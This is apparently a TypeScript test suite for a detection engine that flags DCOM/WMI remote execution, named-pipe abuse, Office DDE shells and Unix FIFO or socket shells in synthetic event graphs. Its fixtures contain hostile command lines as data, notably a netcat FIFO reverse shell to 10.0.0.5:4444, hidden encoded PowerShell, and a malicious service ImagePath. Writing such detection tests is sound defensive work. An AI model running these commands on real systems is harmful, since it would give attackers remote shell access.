import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { Graph } from '../graph/graph.ts'
import { graphOf, tell } from '../graph/testing.ts'
import { findAll } from './index.ts'

const SYSTEM32 = 'C:\\Windows\\System32\\'
const find = (graph: Graph) => findAll({ graph, rules: new Map() })
const names = (graph: Graph) => find(graph).map((one) => one.by)
const system = { pid: 4, image: 'System' }
const explorer = { guid: '{E}', pid: 800, image: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\explorer.exe' }
const dcomLaunch = {
  guid: '{D}',
  pid: 600,
  image: `${SYSTEM32}svchost.exe`,
  commandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
}

describe('AN0628: COM', () => {
  const shellWindows = () =>
    tell('WS6')
      .inbound(10, { pid: 900, image: `${SYSTEM32}svchost.exe` }, '10.0.0.5:50001', '10.0.0.6:135')
      .inbound(11, explorer, '10.0.0.5:50002', '10.0.0.6:49700')
      .started(
        12,
        {
          guid: '{C}',
          pid: 900,
          image: `${SYSTEM32}cmd.exe`,
          commandLine: 'cmd /c powershell -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA',
        },
        explorer,
      )
      .started(
        15,
        { guid: '{W}', pid: 901, image: `${SYSTEM32}whoami.exe`, commandLine: 'whoami' },
        { guid: '{C}', pid: 900, image: `${SYSTEM32}cmd.exe` },
      )

  test('a COM server that takes a call from another machine and starts a shell', () => {
    const [found] = find(graphOf(shellWindows()))
    assert.equal(found.by, 'AN0628/dcom-execution')
    assert.deepEqual([...new Set(found.reasons.map((one) => one.support))].sort(), [
      'adjacency',
      'after',
      'content',
      'indicator',
      'lineage',
      'rarity',
      'remote',
    ])
    assert.equal(found.remotes[0].address, '10.0.0.5')
    assert.ok(found.techniques.some((one) => one.id === 'T1559.001'))
    assert.ok(found.techniques.some((one) => one.id === 'T1021.003'))
  })

  test('the caller’s process is named where its host reports too', () => {
    const source = tell('WS5').outbound(
      11,
      { guid: '{X}', pid: 321, image: 'C:\\Users\\a\\tool.exe' },
      '10.0.0.5:50002',
      '10.0.0.6:49700',
    )
    const [found] = find(graphOf(shellWindows(), source))
    assert.ok(found.processes.some((one) => one.key === 'WS5/{X}'))
    assert.deepEqual(
      found.others.map((one) => [one.host.name, one.role]),
      [['WS5', 'source']],
    )
  })

  test('explorer starting a shell for its user is no finding', () => {
    assert.deepEqual(
      names(
        graphOf(
          tell('WS6').started(12, { guid: '{C}', pid: 900, image: `${SYSTEM32}cmd.exe`, commandLine: 'cmd' }, explorer),
        ),
      ),
      [],
    )
  })

  test('COM servers that DcomLaunch starts all day are no finding', () => {
    const day = tell('WS6')
      .started(
        1,
        { guid: '{1}', pid: 11, image: `${SYSTEM32}RuntimeBroker.exe`, commandLine: 'RuntimeBroker.exe -Embedding' },
        dcomLaunch,
      )
      .started(
        2,
        {
          guid: '{2}',
          pid: 12,
          image: `${SYSTEM32}wbem\\WmiPrvSE.exe`,
          commandLine: 'wmiprvse.exe -secured -Embedding',
        },
        dcomLaunch,
      )
      .started(
        3,
        {
          guid: '{3}',
          pid: 13,
          image: `${SYSTEM32}dllhost.exe`,
          commandLine: 'DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}',
        },
        dcomLaunch,
      )
      .started(
        4,
        {
          guid: '{4}',
          pid: 14,
          image: 'C:\\Program Files\\Microsoft Office\\EXCEL.EXE',
          commandLine: 'EXCEL.EXE /automation -Embedding',
        },
        dcomLaunch,
      )
    assert.deepEqual(names(graphOf(day)), [])
  })

  test('WMI that runs an encoded command for a remote caller', () => {
    const wmi = { guid: '{P}', pid: 700, image: `${SYSTEM32}wbem\\WmiPrvSE.exe` }
    const graph = graphOf(
      tell('WS6')
        .inbound(9, { pid: 900, image: `${SYSTEM32}svchost.exe` }, '10.0.0.5:50001', '10.0.0.6:135')
        .logon(9, { name: 'eve', domain: 'OFFICE', logonId: '0x77' }, '10.0.0.5')
        .started(
          10,
          {
            guid: '{C}',
            pid: 901,
            image: `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
            commandLine: 'powershell -w hidden -enc QQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEA',
          },
          wmi,
        ),
    )
    const [found] = find(graph)
    assert.equal(found.by, 'AN0628/wmi-execution')
    assert.equal(found.channels[0].kind, 'dcom')
    assert.equal(found.sessions[0].account.name, 'eve')
  })

  test('management software that WMI starts is no finding', () => {
    const wmi = { guid: '{P}', pid: 700, image: `${SYSTEM32}wbem\\WmiPrvSE.exe` }
    assert.deepEqual(
      names(
        graphOf(
          tell('WS6').started(
            10,
            { guid: '{C}', pid: 901, image: `${SYSTEM32}msiexec.exe`, commandLine: 'msiexec /i agent.msi /qn' },
            wmi,
          ),
        ),
      ),
      [],
    )
  })
})

describe('AN1357: pipes', () => {
  test('a command that a service writes into a pipe', () => {
    const found = find(
      graphOf(
        tell('WS6').started(
          5,
          {
            guid: '{C}',
            pid: 9,
            image: `${SYSTEM32}cmd.exe`,
            commandLine: 'cmd.exe /c echo qzxkrt > \\\\.\\pipe\\qzxkrt',
          },
          { guid: '{S}', pid: 3, image: `${SYSTEM32}services.exe` },
        ),
      ),
    )
    assert.deepEqual(
      found.map((one) => one.by),
      ['AN1357/pipe-impersonation'],
    )
    assert.equal(found[0].channels[0].name, 'qzxkrt')
    assert.match(found[0].gaps[0].text, /Which process served the pipe/)
  })

  test('many well-known pipes opened over SMB within seconds', () => {
    const host = tell('WS6')
    ;['lsass', 'browser', 'atsvc', 'epmapper', 'eventlog', 'InitShutdown', 'ntsvcs', 'scerpc', 'srvsvc'].forEach(
      (name, at) => {
        host.pipe(at / 10, 'connect', `\\${name}`, system)
      },
    )
    assert.deepEqual(names(graphOf(host)), ['AN1357/pipe-sweep'])
  })

  test('a domain controller’s clients, each on its few pipes through the day, are no sweep', () => {
    const host = tell('DC1')
    ;['lsass', 'samr', 'netlogon', 'srvsvc', 'wkssvc', 'spoolss', 'svcctl', 'winreg', 'eventlog', 'atsvc'].forEach(
      (name, at) => {
        host.pipe(at * 300, 'connect', `\\${name}`, system)
      },
    )
    assert.deepEqual(names(graphOf(host)), [])
  })

  test('browsers’ mojo pipes are no finding, whoever connects', () => {
    const host = tell('WS6')
    for (let at = 0; at < 30; at++) host.pipe(at / 10, 'connect', `\\mojo.${at}.1234.9876543210`, system)
    assert.deepEqual(names(graphOf(host)), [])
  })

  test('a remote client on a pipe with a random name, and a shell session right after', () => {
    const graph = graphOf(
      tell('WS6')
        .pipe(10, 'connect', '\\9f31c0ffee9f31c0ffee9f31c0ffee00', system)
        .inbound(10.5, system, '10.0.0.5:50001', '10.0.0.6:445')
        .started(
          15,
          {
            guid: '{C}',
            pid: 901,
            image: `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
            commandLine: 'powershell.exe -s -NoLogo -NoProfile',
          },
          { guid: '{B}', pid: 900, image: `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe` },
        )
        .started(
          16,
          { guid: '{W}', pid: 902, image: `${SYSTEM32}whoami.exe`, commandLine: 'whoami /all' },
          { guid: '{C}', pid: 901, image: 'powershell.exe' },
        ),
    )
    const [found] = find(graph)
    assert.equal(found.by, 'AN1357/remote-pipe')
    assert.equal(found.remotes[0].address, '10.0.0.5')
    assert.match(found.assumptions[0], /inferred from time alone/)
  })

  test('a service installed over svcctl by a remote account', () => {
    const svcctl = {
      channel: { kind: 'named-pipe' as const, host: 'WS6', name: 'svcctl' },
      act: 'connect' as const,
      account: { name: 'eve', domain: 'OFFICE', logonId: '0x77' },
      peer: { address: '10.0.0.5', port: 50001 },
    }
    const graph = graphOf(
      tell('WS6')
        .observed(10, svcctl)
        .effect(11, 'service-installed', 'XKQZPWMRTBNV', {
          detail: { ImagePath: '%COMSPEC% /C powershell -enc AAAA' },
        }),
    )
    const found = find(graph)
    assert.deepEqual(found.map((one) => one.by).sort(), ['AN1357/rpc-service'])
  })

  test('svcctl opened by a management account, with nothing that follows, is no finding', () => {
    const svcctl = {
      channel: { kind: 'named-pipe' as const, host: 'WS6', name: 'svcctl' },
      act: 'connect' as const,
      account: { name: 'monitor' },
      peer: { address: '10.0.0.9' },
    }
    assert.deepEqual(names(graphOf(tell('WS6').observed(10, svcctl))), [])
  })
})

describe('AN1393: DDE', () => {
  const word = {
    guid: '{O}',
    pid: 70,
    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    commandLine:
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\ann\\Downloads\\offer.docx"',
  }

  test('Word that starts a shell after opening a document', () => {
    const graph = graphOf(
      tell('WS6')
        .started(0, word, explorer)
        .started(
          8,
          { guid: '{C}', pid: 71, image: `${SYSTEM32}cmd.exe`, commandLine: 'cmd.exe /k powershell -w 1 -c whoami' },
          word,
        ),
    )
    const [found] = find(graph)
    assert.equal(found.by, 'AN1393/office-child')
    assert.match(found.title, /offer\.docx started cmd\.exe/)
    assert.deepEqual(
      found.channels.map((one) => one.kind),
      ['dde'],
    )
    assert.match(found.assumptions[0], /look alike/)
  })

  test('what Office starts by itself is no finding', () => {
    const graph = graphOf(
      tell('WS6')
        .started(0, word, explorer)
        .started(
          8,
          { guid: '{C}', pid: 71, image: 'C:\\Windows\\splwow64.exe', commandLine: 'C:\\Windows\\splwow64.exe 8192' },
          word,
        ),
    )
    assert.deepEqual(names(graph), [])
  })
})

describe('AN1358: Unix channels', () => {
  const fifo = { channel: { kind: 'fifo' as const, host: 'LNX1', name: '/tmp/.f' }, act: 'refer' as const }
  const web = { guid: '{N}', pid: 80, image: '/usr/sbin/nginx', commandLine: 'nginx: worker process' }
  const shell = {
    guid: '{S}',
    pid: 100,
    image: '/bin/sh',
    commandLine: 'sh -c mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/.f',
  }

  test('a FIFO in /tmp that bridges a shell to the network, below a web server', () => {
    const [found] = find(
      graphOf(
        tell('LNX1')
          .started(1, shell, web)
          .observed(1, { ...fifo, actor: shell }),
      ),
    )
    assert.equal(found.by, 'AN1358/fifo-shell')
    assert.deepEqual(found.reasons.map((one) => one.support).sort(), ['content', 'indicator', 'lineage'])
  })

  test('a FIFO in a build folder is no finding', () => {
    const make = { guid: '{M}', pid: 100, image: '/usr/bin/make', commandLine: 'make' }
    assert.deepEqual(
      names(
        graphOf(
          tell('LNX1')
            .started(1, make, {})
            .observed(1, {
              channel: { ...fifo.channel, name: '/home/ann/build/jobserver' },
              act: 'refer',
              actor: make,
            }),
        ),
      ),
      [],
    )
  })

  test('the docker command speaking to its own socket is weighed with what it asks', () => {
    const curl = {
      guid: '{C}',
      pid: 101,
      image: '/usr/bin/curl',
      commandLine: 'curl --unix-socket /var/run/docker.sock http://x/containers/json',
    }
    const [found] = find(
      graphOf(
        tell('LNX1')
          .started(1, curl, shell)
          .observed(1, {
            channel: { kind: 'unix-socket', host: 'LNX1', name: '/var/run/docker.sock' },
            act: 'refer',
            actor: curl,
          }),
      ),
    )
    assert.equal(found.by, 'AN1358/control-socket')
  })
})
